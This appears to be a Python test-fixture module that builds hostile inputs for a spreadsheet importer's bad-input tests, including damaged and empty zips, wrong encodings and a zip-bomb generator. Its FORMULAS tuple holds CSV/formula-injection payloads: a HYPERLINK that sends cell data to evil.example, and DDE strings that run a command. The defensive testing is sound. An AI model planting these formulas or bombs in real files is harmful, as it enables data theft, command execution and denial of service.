"""Malformed and hostile files, made in memory for the bad-input tests: damaged workbooks, zip bombs, files that are
not what their name says, text in the wrong encoding, NUL bytes, very long lines and formula cells."""

from __future__ import annotations

import functools
import io
import zipfile
from collections.abc import Sequence
from typing import Any

from openpyxl import Workbook

# Text a spreadsheet would run as a formula (or a DDE command) if it were written into a cell as it is.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
# A PNG's first bytes: enough for any reader to see it is not a workbook or text.
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
# Text with a pound sign and smart quotes, which Windows-1252 and UTF-8 spell differently.
POUNDS = "Cost £5 \u201cquoted\u201d \u2013 it\u2019s"


def xlsx(sheets: dict[str, Sequence[Sequence[Any]]], *, formulas: bool = False) -> bytes:
    """A workbook with a sheet per name holding its rows; text starting '=' is a real formula cell when asked."""
    book = Workbook()
    book.remove(book.active)  # type: ignore[arg-type]
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(list(row))
        if not formulas:
            for line in sheet.iter_rows():
                for cell in line:
                    if cell.data_type == "f":  # openpyxl makes any text starting '=' a formula
                        cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@functools.cache
def zip_bomb(unpacked_bytes: int) -> bytes:
    """A small xlsx-shaped zip whose worksheet unpacks to `unpacked_bytes` bytes (of spaces), made once per size."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b" " * (1024 * 1024)
            written = 0
            while written < unpacked_bytes:
                piece = chunk[: min(len(chunk), unpacked_bytes - written)]
                member.write(piece)
                written += len(piece)
    return buffer.getvalue()


def damaged_zip() -> bytes:
    """A zip archive cut short: its central directory is missing."""
    whole = xlsx({"Sheet": [["a", "b"], [1, 2]]})
    return whole[: len(whole) // 2]


def empty_zip() -> bytes:
    """A valid zip archive with nothing in it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w"):
        pass
    return buffer.getvalue()


def csv_text(rows: Sequence[Sequence[str]]) -> str:
    """Rows as CSV text with CRLF line ends, as Excel writes them (cells with commas or quotes quoted)."""
    lines = []
    for row in rows:
        cells = ['"' + cell.replace('"', '""') + '"' if any(c in cell for c in ',"\r\n') else cell for cell in row]
        lines.append(",".join(cells))
    return "\r\n".join(lines) + "\r\n"


def encodings(text: str) -> dict[str, bytes]:
    """The text as UTF-8 with a byte order mark, UTF-16 (as Excel's 'Unicode text') and Windows-1252."""
    return {
        "utf-8-bom": b"\xef\xbb\xbf" + text.encode("utf-8"),
        "utf-16": text.encode("utf-16"),
        "cp1252": text.encode("cp1252"),
    }
